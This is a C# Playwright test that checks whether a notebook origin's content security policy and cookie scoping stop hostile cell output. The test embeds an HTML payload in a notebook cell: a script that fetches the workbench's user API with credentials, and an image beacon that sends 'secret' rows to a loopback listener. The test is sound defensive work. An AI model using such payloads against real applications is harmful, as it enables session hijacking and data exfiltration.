using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.RegularExpressions;
using Microsoft.Playwright;
using Workbench.Audit;
using Workbench.Server.Tests.Infrastructure;
using Workbench.Server.Tests.Notebooks;
using static Microsoft.Playwright.Assertions;

namespace Workbench.Server.Tests.Browser;

/// <summary>
/// A cell's output is HTML with a script that tries to act as the user in the workbench and an image that beacons out:
/// on the notebooks' own origin, under its policy, the script reaches nothing and the beacon never leaves.
/// </summary>
[Collection(BrowserJourneys.Name)]
public sealed class NotebookOriginJourneyTests(Chromium chromium)
{
    [Fact]
    public async Task CellOutput_ScriptCallingTheWorkbenchAndABeaconImage_AreBlockedAndTheJupyterPagesRaiseNoOtherViolation()
    {
        using var area = new NotebookArea();
        await using var app = await WorkbenchApp.StartOnLoopbackAsync(DatabaseProvider.Sqlite, area.Settings());
        var (scientist, project) = await NotebookArea.ProjectAsync(app);
        using var beacon = new TcpListener(IPAddress.Loopback, WorkbenchApp.FreePort());
        beacon.Start();
        var beaconPort = ((IPEndPoint)beacon.LocalEndpoint).Port.ToString(CultureInfo.InvariantCulture);
        var beaconHits = 0;
        _ = Task.Run(async () =>
        {
            while (true)
            {
                using var connection = await beacon.AcceptTcpClientAsync();
                Interlocked.Increment(ref beaconHits);
            }
        });
        var workbench = app.BaseAddress.GetLeftPart(UriPartial.Authority);
        var notebooks = area.Origin.GetLeftPart(UriPartial.Authority);
        var page = await chromium.NewPageAsync(app.BaseAddress);
        page.SetDefaultTimeout(60_000);
        var violations = await CspViolations.WatchAsync(page);
        await BrowserSignIn.SignInAsync(page, scientist, "/Notebooks");
        await page.Locator($"tr[data-project='{project}']").GetByRole(AriaRole.Button, new() { Name = "Open notebooks" }).ClickAsync();
        await Expect(page).ToHaveURLAsync(new Regex("^" + Regex.Escape($"{notebooks}/notebooks/{project}/tree")));
        await Expect(page.Locator("#notebook_list")).ToBeVisibleAsync();
        var cookies = await page.Context.CookiesAsync([$"{notebooks}/notebooks/{project}/tree"]);
        var code = "HTML(\"<div id='probe'>waiting</div><script>"
            + $"fetch('{workbench}/api/me', {{credentials: 'include'}}).then(r => r.text())"
            + ".then(t => { document.getElementById('probe').textContent = 'GOT ' + t; })"
            + ".catch(e => { document.getElementById('probe').textContent = 'BLOCKED ' + e; });"
            + $"</script><img alt='beacon' src='http://127.0.0.1:{beaconPort}/beacon?rows=secret'>\")";
        var saved = await page.APIRequest.PutAsync($"{notebooks}/notebooks/{project}/api/contents/exfil.ipynb", new() { DataObject = NotebookArea.Notebook(code) });
        Assert.Equal(201, saved.Status);

        await page.GotoAsync($"{notebooks}/notebooks/{project}/notebooks/exfil.ipynb");
        await Expect(page.Locator("#kernel_indicator_icon.kernel_idle_icon")).ToBeVisibleAsync(new() { Timeout = 120_000 });
        await page.Locator(".CodeMirror").First.ClickAsync();
        await page.Keyboard.PressAsync("Shift+Enter");
        await Expect(page.Locator("#probe")).ToContainTextAsync("BLOCKED", new() { Timeout = 120_000 });
        await page.WaitForTimeoutAsync(1_000);

        // The notebook origin holds its own cookie (and Jupyter's _xsrf), never the workbench's sign-in.
        var cookie = Assert.Single(cookies, c => c.Name == Workbench.Server.Notebooks.NotebookOriginCookie.CookieName);
        Assert.DoesNotContain(cookies, c => c.Name == "workbench");
        Assert.True(cookie.HttpOnly);
        Assert.Equal(SameSiteAttribute.Strict, cookie.SameSite);
        Assert.Equal($"/notebooks/{project}/", cookie.Path);
        Assert.Equal(0, Volatile.Read(ref beaconHits));
        var seen = violations.Seen;
        Assert.Contains(seen, v => v.StartsWith($"connect-src {workbench}/api/me", StringComparison.Ordinal));
        Assert.Contains(seen, v => v.StartsWith($"img-src http://127.0.0.1:{beaconPort}/beacon", StringComparison.Ordinal));
        // Nothing else of Jupyter's pages is blocked, except MathJax's probe for installed fonts (a font from about:).
        Assert.All(seen, v => Assert.True(v.Contains("/api/me", StringComparison.Ordinal) || v.Contains("/beacon", StringComparison.Ordinal)
            || v.StartsWith("font-src about", StringComparison.Ordinal), v));
    }
}
